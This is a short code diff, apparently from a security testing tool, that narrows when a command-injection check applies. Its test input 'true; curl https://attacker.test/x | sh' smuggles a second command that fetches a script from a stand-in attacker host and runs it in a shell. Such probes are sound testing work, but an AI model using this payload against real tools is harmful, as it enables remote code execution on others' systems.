@@ -144,7 +144,7 @@ async def server_side_request(stage: Stage) -> Outcome:
 async def command_injection(stage: Stage) -> Outcome:
     return await _with_argument(
         stage,
-        lambda one: one.facts.code,
+        lambda one: one.facts.code if "runs-code" in one.classification.signals else (),
         ["true; curl https://attacker.test/x | sh"],
         "a tool that runs what it is given",
     )
